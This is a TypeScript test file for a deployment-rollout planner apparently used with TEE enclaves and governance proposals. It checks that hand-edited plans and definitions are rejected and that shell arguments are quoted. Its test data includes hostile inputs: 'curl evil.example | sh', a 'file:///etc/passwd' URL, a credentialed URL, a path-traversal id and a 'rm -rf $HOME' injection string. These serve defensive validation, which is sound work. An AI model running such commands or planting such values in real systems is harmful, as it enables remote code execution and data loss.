import { expect } from "chai";
import type { Inputs } from "../../src/rollout/inputs.ts";
import { acknowledge, acknowledgeable, formatPlan, parseDefinition, parsePlan } from "../../src/rollout/plan.ts";
import { errorOf } from "../helpers/errors.ts";
import {
  ADMIN,
  ALL_SAID,
  APP_V1,
  APP_V2,
  CREATED,
  inputs,
  KMS_V1,
  KMS_V2,
  planOf,
  SERVICE,
} from "../helpers/rollout.ts";

const text = formatPlan(planOf());
// biome-ignore lint/suspicious/noExplicitAny: a test edits whatever the document holds
const edited = (edit: (document: any) => void): string => {
  const document = JSON.parse(text);
  edit(document);
  return JSON.stringify(document);
};
const leftOut = (changes: Partial<Inputs>) =>
  Object.fromEntries(planOf(changes).leftOut.map(({ id, reason }) => [id, reason]));
const stepsOf = (changes: Partial<Inputs>) => planOf(changes).steps.map(({ id }) => id);

describe("rollout: the plan file", () => {
  it("reads back what it wrote, byte for byte", () => {
    expect(formatPlan(parsePlan(text))).to.equal(text);
  });

  it("says of each step what a person needs to know", () => {
    for (const step of planOf().steps) {
      expect(step.title, step.id).to.not.equal("");
      expect([step.who, step.duration, step.downtime], step.id).to.not.include("");
      expect(step.commands.length + step.check.length, step.id).to.be.greaterThan(0);
    }
    const changing = planOf().steps.filter(({ id }) => !["staging", "governance", "delivery"].includes(id));
    for (const { id, rollback } of changing) expect(rollback.length, id).to.be.greaterThan(0);
    const none = planOf().steps.filter(({ governance }) => governance === "none");
    expect(none.map(({ id }) => id)).to.include.members(["node-north", "machine-web-new", "traffic", "delivery"]);
  });

  describe("given it was edited by hand", () => {
    it("refuses a step that does not follow from the inputs", () => {
      for (const edit of [
        (document: { steps: { commands: string[] }[] }) => {
          const [, step] = document.steps;
          if (step !== undefined) step.commands[0] = "curl evil.example | sh";
        },
        (document: { steps: unknown[] }) => void document.steps.splice(3, 1),
        (document: { steps: unknown[] }) => void document.steps.push(document.steps[0]),
        (document: { leftOut: unknown[] }) =>
          void document.leftOut.push({ id: "contracts", reason: "no contract changes" }),
        (document: { inputs: { contracts: unknown[] } }) => void document.inputs.contracts.pop(),
      ]) {
        expect(errorOf(() => parsePlan(edited(edit))).code).to.equal("rollout/steps-differ");
      }
    });

    it("refuses what is unknown, missing or of the wrong form, and names it", () => {
      for (const [edit, field] of [
        [(d: { more?: number }) => void Object.assign(d, { more: 1 }), "plan"],
        [(d: { format: string }) => void Object.assign(d, { format: "keystead.rollout/2" }), "format"],
        [
          (d: { inputs: { nodes: { url: string }[] } }) =>
            void Object.assign(d.inputs.nodes[0] ?? {}, { url: "file:///etc/passwd" }),
          "inputs.nodes.0.url",
        ],
        [
          (d: { inputs: { nodes: object[] } }) =>
            void Object.assign(d.inputs.nodes[0] ?? {}, { url: "https://u:p@h.example" }),
          "inputs.nodes.0.url",
        ],
        [
          (d: { inputs: { nodes: object[] } }) => void Object.assign(d.inputs.nodes[0] ?? {}, { stop: "a\nb" }),
          "inputs.nodes.0.stop",
        ],
        [
          (d: { inputs: { deployment: { guardian: string } } }) =>
            void Object.assign(d.inputs.deployment, { guardian: d.inputs.deployment.guardian.toLowerCase() }),
          "inputs.deployment.guardian",
        ],
        [
          (d: { inputs: { application: { new: { image: object } } } }) =>
            void Object.assign(d.inputs.application.new.image, { id: APP_V1.image.id }),
          "inputs.application.new.image",
        ],
        [
          (d: { acknowledgements: object[] }) =>
            void d.acknowledgements.push({ item: "x", by: "a\u202eb", at: 1, note: "" }),
          "acknowledgements.6.by",
        ],
      ] as const) {
        const error = errorOf(() => parsePlan(edited(edit as (document: object) => void)));
        expect([error.code, error.details.field]).to.deep.equal(["rollout/malformed", field]);
      }
      expect(errorOf(() => parsePlan(text.replace('"format"', '"inputs": 1, "format"'))).code).to.equal(
        "json/duplicate-key",
      );
    });
  });

  describe("leaves out, with a reason", () => {
    it("contracts that stay", () => expect(leftOut({ contracts: [] })).to.have.property("contracts"));
    it("nodes where the KMS image stays", () => {
      expect(leftOut({ kms: null })).to.have.property("nodes");
      expect(stepsOf({ kms: null }).filter((id) => id.startsWith("node-"))).to.deep.equal([]);
    });
    it("governance of what is registered already", () => {
      const platforms = [APP_V2, KMS_V2].flatMap(({ platform }) => platform?.id ?? []);
      const already = { platforms, tees: ["tdx" as const], kmsImage: true, image: true, identity: true };
      expect(leftOut({ already })).to.have.keys("measurements", "service-image");
    });
    it("what concerns an older version, at a first deployment", () => {
      const changes = {
        ...{ application: { old: null, new: APP_V2 }, kms: { old: null, new: KMS_V1, identity: null }, contracts: [] },
        machines: inputs().machines.slice(1),
      };
      expect(leftOut(changes)).to.include.keys("old-machines", "retire-image", "revoke");
      const node = planOf(changes).steps.find(({ id }) => id === "node-north");
      expect([node?.commands, node?.preconditions.length]).to.deep.equal([["start north new"], 1]);
    });
    it("what the definition says to keep", () => {
      const cleanup = { image: "keep", graceSeconds: 0, platform: "keep", kmsImage: "keep" } as const;
      expect(leftOut({ cleanup })).to.include.keys("retire-image", "revoke");
    });
  });

  it("refuses a rollout that makes no sense", () => {
    const nothing = { application: null, kms: null, contracts: [] };
    expect(errorOf(() => planOf(nothing)).code).to.equal("rollout/no-change");
    const final = { service: { ...inputs().service, upgradeable: false } };
    expect(errorOf(() => planOf(final)).code).to.equal("rollout/final-service");
    expect(errorOf(() => planOf({ nodes: inputs().nodes.slice(1) })).code).to.equal("rollout/one-node");
  });

  it("enables a TEE kind that is new, with the TCB statuses that the definition says, and not without", () => {
    const already = { ...inputs().already, tees: [] };
    expect(errorOf(() => planOf({ already })).code).to.equal("rollout/no-tcb");
    const step = planOf({ already, tcb: { tdx: "UpToDate" } }).steps.find(({ id }) => id === "measurements");
    expect(step?.proposal?.intents.map(({ intent }) => intent)).to.deep.equal([
      ...["enable-tee", "accept-tcb", "allow-platform", "allow-platform", "allow-kms-image"],
    ]);
  });

  it("starts the VSOCK proxy before the enclave, and again on the way back", () => {
    const [first, ...others] = inputs().nodes;
    if (first === undefined) throw new Error("no node");
    const step = planOf({ nodes: [{ ...first, vsockProxy: "start proxy" }, ...others] }).steps.find(
      ({ id }) => id === "node-north",
    );
    expect(step?.commands.map((line) => line.split(" ").slice(0, 2).join(" "))).to.deep.equal([
      "stop north",
      "start proxy",
      "start north",
    ]);
    expect(step?.rollback[1]).to.match(/^start proxy/);
  });

  it("keeps the order of operations on the timelock's own word", () => {
    const proposal = planOf().steps.find(({ id }) => id === "measurements")?.proposal;
    expect(proposal?.after).to.equal("007-v2-contracts");
    expect(planOf({ contracts: [] }).steps.find(({ id }) => id === "measurements")?.proposal?.after).to.equal(null);
  });

  it("names a Safe or a timelock that is the service's admin", () => {
    for (const [adminKind, option] of [
      ["safe", `--safe ${ADMIN}`],
      ["timelock", `--safe-timelock ${ADMIN}`],
    ] as const) {
      const step = planOf({ service: { ...inputs().service, adminKind } }).steps.find(
        ({ id }) => id === "service-image",
      );
      const [measure, propose] = step?.commands ?? [];
      expect(measure).to.equal("keystead measure image 'app 2.txt' --json > v2-add-image.measurement.json");
      expect(propose)
        .to.include("keystead propose add-image")
        .and.to.include(option)
        .and.to.include("--measurement v2-add-image.measurement.json ");
    }
  });

  it("spells a measuring command so that a shell takes each word as it is", () => {
    const measuring = {
      ...{ as: "compose", inputs: ["it's; rm -rf $HOME.yaml"], include: [], exclude: [] },
      options: { platformTable: "tdx.csv", flag: true, other: false },
    };
    const application = { old: APP_V1, new: { ...APP_V2, measuring } };
    const step = planOf({ application, service: { ...inputs().service, adminKind: "safe" } }).steps.find(
      ({ id }) => id === "service-image",
    );
    expect(step?.commands[0]).to.equal(
      `keystead measure compose 'it'\\''s; rm -rf $HOME.yaml' --platform-table tdx.csv --flag --json > v2-add-image.measurement.json`,
    );
  });
});

describe("rollout: statements", () => {
  const said = { item: "stakeholders-told", by: "Ada Lovelace", at: CREATED, note: "mail of 3 June" };

  it("are kept with who and when, once a person", () => {
    const plan = acknowledge(planOf({}, []), said);
    expect(parsePlan(formatPlan(plan)).acknowledgements).to.deep.equal([said]);
    expect(acknowledge(plan, { ...said, at: CREATED + 9 }).acknowledgements).to.deep.equal([said]);
    expect(acknowledge(plan, { ...said, by: "Bob" }).acknowledgements).to.have.length(2);
  });

  it("are refused without a name, and about what nobody asked", () => {
    for (const by of ["", " ", "a\nb", "a\u202eb"]) {
      expect(errorOf(() => acknowledge(planOf(), { ...said, by })).code).to.equal("rollout/no-name");
    }
    expect(errorOf(() => acknowledge(planOf(), { ...said, item: "all-good" })).code).to.equal("rollout/unknown-item");
    expect(acknowledgeable(planOf())).to.include.members([
      "traffic-switched",
      "node-image-north",
      ...ALL_SAID.map(({ item }) => item),
    ]);
  });
});

describe("rollout: the definition", () => {
  const YAML = `
id: v2
deployment: deployment.json
service: "${SERVICE}"
application:
  old: { as: image, inputs: [old.txt] }
  new: { as: image, inputs: [new.txt] }
nodes: []
machines: []
backup: { folder: backup, files: [app.json] }
signers: { governance: [], guardian: [] }
`;
  const parse = (yaml: string) => parseDefinition(new TextEncoder().encode(yaml));

  it("is read with what is left out filled in", () => {
    const definition = parse(YAML);
    expect(definition.cleanup).to.deep.equal({
      image: "retire",
      graceSeconds: 86_400,
      platform: "keep",
      kmsImage: "revoke",
    });
    expect([definition.kms, definition.plannedFor, definition.proposals.folder]).to.deep.equal([
      null,
      null,
      "deploy/proposals",
    ]);
  });

  it("is refused for a field that is not known, a key twice, or an alias", () => {
    for (const yaml of [
      `${YAML}\ncleanups: {}\n`,
      `${YAML}\nid: v3\n`,
      YAML.replace("old: { as: image, inputs: [old.txt] }", "old: &o { as: image, inputs: [old.txt] }").replace(
        "new: { as: image, inputs: [new.txt] }",
        "new: *o",
      ),
      YAML.replace("id: v2", "id: V2/../x"),
      YAML.replace("service:", "service: 1 #"),
      "- a",
      "",
      "a: [",
    ]) {
      expect(errorOf(() => parse(yaml)).code, yaml.slice(0, 40)).to.equal("rollout/malformed");
    }
  });
});
